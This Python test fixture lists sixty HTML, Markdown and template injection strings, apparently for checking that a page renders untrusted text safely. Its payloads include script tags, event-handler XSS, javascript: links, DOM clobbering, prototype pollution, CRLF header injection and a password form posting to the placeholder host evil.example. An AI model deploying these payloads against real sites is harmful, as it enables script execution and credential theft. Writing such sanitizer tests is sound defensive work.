"""Sixty strings that would become active in a careless page: scripts, handlers, remote loads, forms, links, templates, broken markup.

A script that runs sets `window.hacked`; anything loaded from outside comes from evil.example.
"""

from __future__ import annotations

INJECTIONS = (
    # scripts, plain and in disguise
    "<script>window.hacked=1</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<script type=module>import 'http://evil.example/m.js'</script>",
    "</textarea><script>window.hacked=1</script>",
    "</title></style></script><script>window.hacked=1</script>",
    "<<script>window.hacked=1//<</script>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "]]><script>window.hacked=1</script><![CDATA[",
    "<!--><script>window.hacked=1</script-->",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "＜script＞window.hacked=1＜/script＞",
    # handlers
    "<img src=x onerror=window.hacked=1>",
    "<img src=x onerror=window.hacked=1 ",
    '"><img src=x onerror="window.hacked=1">',
    "' onmouseover='window.hacked=1' x='",
    "<svg onload=window.hacked=1>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><a href=javascript:window.hacked=1><text y=20>点我</text></a></svg>",
    "<svg><use href='http://evil.example/s.svg#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=http://evil.example/a.mp3 autoplay onerror=window.hacked=1>",
    "<marquee onstart=window.hacked=1>动</marquee>",
    "<body onload=window.hacked=1>",
    "<a href=# onclick=window.hacked=1>点我</a>",
    # frames, plugins, the whole page
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<object data=http://evil.example/o.swf></object><embed src=http://evil.example/e.swf>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/c.css>",
    "<style>@import url(http://evil.example/i.css);body{background:url(http://evil.example/b.png)}</style>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/c.png)'>盖住</div>",
    "<form action=http://evil.example><input name=password><button>登录</button></form>",
    "<form id=chat><input id=source name=hacked>",
    "<img name=body><img id=answers name=querySelector>",
    "<template><script>window.hacked=1</script></template>",
    # Markdown, and what Markdown pages add to it
    "[点我](javascript:window.hacked=1)",
    "[点我](data:text/html,<script>parent.hacked=1</script>)",
    "[点我](http://evil.example/ '标题')",
    "![](http://evil.example/a.png)",
    "![x][y]\n\n[y]: http://evil.example/r.png",
    "[x]: http://evil.example/\n[x]",
    "<http://evil.example/>",
    "http://evil.example/ www.evil.example mailto:a@evil.example",
    "[1](#cite-0000-1) [1](#cite-x-1' onclick='window.hacked=1)",
    "```html\n<img src=x onerror=window.hacked=1>\n```",
    "`<img src=x onerror=window.hacked=1>`",
    "| <b>a</b> | b |\n| - | - |\n| [c](http://evil.example) | ![](http://evil.example/t.png) |",
    "```mermaid\ngraph TD; A-->B; click A href 'javascript:window.hacked=1'\n```",
    "$$\\href{javascript:window.hacked=1}{x}$$ $\\includegraphics{http://evil.example/l.png}$",
    # templates, data formats, names
    "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} <%= window.hacked=1 %>",
    '{"__proto__": {"hacked": 1}, "type": "html", "value": "<img src=x onerror=window.hacked=1>"}',
    '=HYPERLINK("http://evil.example","点我")',
    "..\\..\\a\r\nset-cookie: hacked=1\r\n\r\n<img src=http://evil.example/h.png>\u202e\u0000",
)

assert len(INJECTIONS) == len(set(INJECTIONS)) == 60
